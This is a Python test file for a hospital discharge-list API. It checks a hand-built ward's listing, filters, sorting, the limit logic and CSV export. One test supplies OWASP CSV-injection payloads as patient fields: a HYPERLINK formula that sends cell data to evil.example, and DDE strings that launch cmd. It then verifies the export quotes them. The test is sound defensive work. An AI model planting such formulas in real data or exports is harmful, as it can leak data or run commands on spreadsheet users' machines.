"""The Ready-for-Discharge list against a hand-built ward."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from fastapi.testclient import TestClient

from tests.discharge.helpers import NHS, TEAM, fire, open_case
from tests.helpers import Api


@pytest.fixture
def ward(client: TestClient, make_user) -> tuple[Api, str, dict[str, int]]:
    """Six patients on one site (unique to this test), each in a known position."""
    api = Api(client, make_user(*TEAM).headers)
    site = f"SITE-{uuid.uuid4().hex[:6].upper()}"
    ids: dict[str, int] = {}

    def admit(name: str, nhs: str, **data) -> int:  # noqa: ANN003
        ids[name] = int(open_case(api, nhs, site=site, admitted_days_ago=20, **data)["id"])
        fire(api, ids[name], "accept", days_ago=19)
        return ids[name]

    # Ada: ready 6 days, one capacity delay, escalated, planned P1.
    admit("ada", NHS[0], responsible_person="Nurse Ada", pathway="P1")
    fire(api, ids["ada"], "not_meeting_ctr", days_ago=6)
    fire(api, ids["ada"], "open_delay", days_ago=5, data={"delay_code": "capacity-p1-services"})
    fire(api, ids["ada"], "raise_escalation", data={"escalation_reason": "6 days, no package"})
    # Ben: ready 2 days, no delay reason yet, ward 9, S&O.
    admit("ben", NHS[1], ward="Ward 9", hospital_system="S&O")
    fire(api, ids["ben"], "not_meeting_ctr", days_ago=2)
    # Cy: ready 15 days with two reasons, planned P3.
    admit("cy", NHS[2], pathway="P3")
    fire(api, ids["cy"], "not_meeting_ctr", days_ago=15)
    fire(api, ids["cy"], "open_delay", days_ago=14, data={"delay_code": "hospital-medical-review"})
    fire(
        api,
        ids["cy"],
        "open_delay",
        days_ago=10,
        data={"delay_code": "capacity-residential-nursing-home"},
    )
    # Di: was ready, then met the criteria again: not on the list.
    admit("di", NHS[3])
    fire(api, ids["di"], "not_meeting_ctr", days_ago=8)
    fire(api, ids["di"], "meets_ctr_again", days_ago=7)
    # Ed: discharged: not on the list.
    admit("ed", NHS[4])
    fire(api, ids["ed"], "not_meeting_ctr", days_ago=3)
    fire(api, ids["ed"], "discharge", data={"discharge_pathway": "P0", "destination_code": "19"})
    # Flo: ready today (0 days).
    admit("flo", NHS[5])
    fire(api, ids["flo"], "not_meeting_ctr")
    return api, site, ids


def _rfd(api: Api, **params) -> dict:  # noqa: ANN003
    r = api.client.get("/api/v1/rfd", params=params, headers=api.headers)
    assert r.status_code == 200, r.text
    return dict(r.json())


def test_rfd_list_matches_the_hand_built_ward(ward) -> None:  # noqa: ANN001
    api, site, ids = ward
    listed = _rfd(api, site=site)
    rows = {r["case_id"]: r for r in listed["items"]}
    assert listed["count"] == 4
    assert [r["case_id"] for r in listed["items"]] == [
        ids["cy"],
        ids["ada"],
        ids["ben"],
        ids["flo"],
    ]
    assert {k: rows[ids[k]]["days_since_drd"] for k in ("ada", "ben", "cy", "flo")} == {
        "ada": 6,
        "ben": 2,
        "cy": 15,
        "flo": 0,
    }
    ada = rows[ids["ada"]]
    assert (ada["state"], ada["pathway"], ada["escalated"], ada["responsible_person"]) == (
        "awaiting_support",
        "P1",
        True,
        "Nurse Ada",
    )
    assert ada["escalation_reason"] == "6 days, no package"
    assert [d["code"] for d in ada["delays"]] == ["capacity-p1-services"]
    assert ada["length_of_stay_days"] == 20
    assert ada["nhs_number"] == NHS[0]
    cy = rows[ids["cy"]]
    assert [d["code"] for d in cy["delays"]] == [
        "hospital-medical-review",
        "capacity-residential-nursing-home",
    ]
    assert cy["primary_reason"]["code"] == "capacity-residential-nursing-home"
    ben = rows[ids["ben"]]
    assert (ben["ward"], ben["hospital_system"], ben["delays"], ben["primary_reason"]) == (
        "Ward 9",
        "S&O",
        [],
        None,
    )


def test_rfd_filters_and_sorting(ward) -> None:  # noqa: ANN001
    api, site, ids = ward
    ids_of = lambda listed: [r["case_id"] for r in listed["items"]]  # noqa: E731
    assert ids_of(_rfd(api, site=site, escalated=True)) == [ids["ada"]]
    assert ids_of(_rfd(api, site=site, hospital_system="S&O")) == [ids["ben"]]
    assert ids_of(_rfd(api, site=site, pathway="P3")) == [ids["cy"]]
    assert ids_of(_rfd(api, site=site, delay_family="Capacity")) == [ids["cy"], ids["ada"]]
    assert ids_of(_rfd(api, site=site, delay_code="hospital-medical-review")) == [ids["cy"]]
    assert ids_of(_rfd(api, site=site, min_days=6)) == [ids["cy"], ids["ada"]]
    assert ids_of(_rfd(api, site=site, sort="days_since_drd")) == [
        ids["flo"],
        ids["ben"],
        ids["ada"],
        ids["cy"],
    ]
    assert ids_of(_rfd(api, site=site, sort="ward"))[-1] == ids["ben"]
    r = api.client.get("/api/v1/rfd", params={"sort": "nonsense"}, headers=api.headers)
    assert (r.status_code, r.json()["code"]) == (422, "validation_failed")
    r = api.client.get("/api/v1/rfd", params={"pathway": "P9"}, headers=api.headers)
    assert r.status_code == 422
    assert api.client.get("/api/v1/rfd").status_code == 401


def test_rfd_csv(ward) -> None:  # noqa: ANN001
    api, site, ids = ward
    r = api.client.get("/api/v1/rfd", params={"site": site, "format": "csv"}, headers=api.headers)
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="rfd-')
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [int(row["case_id"]) for row in rows] == [ids["cy"], ids["ada"], ids["ben"], ids["flo"]]
    cy = rows[0]
    assert cy["days_since_drd"] == "15"
    assert cy["primary_reason"] == "Capacity – Residential or nursing home care not yet available"
    assert cy["delay_reasons"] == (
        "Hospital process – medical review; "
        "Capacity – Residential or nursing home care not yet available"
    )
    assert rows[1]["escalated"] == "yes"
    same = api.client.get(
        "/api/v1/rfd", params={"site": site}, headers={**api.headers, "Accept": "text/csv"}
    )
    assert same.text == r.text


# Formulas a spreadsheet would run (OWASP's CSV injection examples), as a client could write them.
FORMULAS = {
    "ward": '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    "responsible_person": "+cmd|' /C calc'!A0",
    "escalation_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_rfd_csv_text_cells_cannot_run_as_formulas(client: TestClient, make_user) -> None:
    """Every text cell a client wrote that starts with `=`, `+`, `-`, `@`, a tab or a carriage
    return gets a single quote in front (OWASP); numbers are written as they are."""
    api = Api(client, make_user(*TEAM).headers)
    site = f"SITE-{uuid.uuid4().hex[:6].upper()}"
    case_id = int(
        open_case(
            api,
            NHS[6],
            site=site,
            admitted_days_ago=20,
            ward=FORMULAS["ward"],
            responsible_person=FORMULAS["responsible_person"],
        )["id"]
    )
    fire(api, case_id, "accept", days_ago=19)
    fire(api, case_id, "not_meeting_ctr", days_ago=4)
    fire(
        api, case_id, "raise_escalation", data={"escalation_reason": FORMULAS["escalation_reason"]}
    )
    minus = int(open_case(api, NHS[7], site=site, ward="-Ward 8 (ex-ICU)")["id"])
    fire(api, minus, "accept", days_ago=3)
    fire(api, minus, "not_meeting_ctr", days_ago=2)

    r = api.client.get("/api/v1/rfd", params={"site": site, "format": "csv"}, headers=api.headers)
    assert r.status_code == 200, r.text
    rows = {int(row["case_id"]): row for row in csv.DictReader(io.StringIO(r.text))}
    for column, formula in FORMULAS.items():
        assert rows[case_id][column] == "'" + formula, column
    assert rows[minus]["ward"] == "'-Ward 8 (ex-ICU)"
    # Numbers as numbers: not quoted, not prefixed.
    assert (rows[case_id]["days_since_drd"], rows[minus]["days_since_drd"]) == ("4", "2")
    assert rows[case_id]["length_of_stay_days"] == "20"
    # The JSON list is unchanged: only the CSV guards the spreadsheet.
    listed = api.client.get("/api/v1/rfd", params={"site": site}, headers=api.headers).json()
    assert {i["ward"] for i in listed["items"]} == {FORMULAS["ward"], "-Ward 8 (ex-ICU)"}


def test_the_filters_apply_before_the_limit(client: TestClient, make_user) -> None:  # noqa: ANN001
    """With more patients ready than the list's limit, a ward's list is still whole (found by
    the bench at a million open cases: the limit was applied first, the ward after), and a list
    cut at the limit says so."""
    api = Api(client, make_user(*TEAM).headers)
    site = f"SITE-{uuid.uuid4().hex[:6].upper()}"
    wards = ["Ward 1", "Ward 1", "Ward 1", "Ward 2", "Ward 2"]
    ids = []
    for nhs, ward in zip(NHS, wards, strict=False):
        ids.append(int(open_case(api, nhs, site=site, admitted_days_ago=5, ward=ward)["id"]))
        fire(api, ids[-1], "not_meeting_ctr", days_ago=1)
    state = client.app.state
    config = state.discharge_config
    state.discharge_config = config.model_copy(update={"rfd_list_limit": 2})
    try:
        ward2 = client.get(
            "/api/v1/rfd", params={"site": site, "ward": "Ward 2"}, headers=api.headers
        )
        every = client.get("/api/v1/rfd", params={"site": site}, headers=api.headers)
    finally:
        state.discharge_config = config
    assert ward2.status_code == 200, ward2.text
    assert sorted(r["case_id"] for r in ward2.json()["items"]) == ids[3:]
    assert ward2.json()["complete"] is True
    assert (every.json()["count"], every.json()["complete"]) == (2, False)
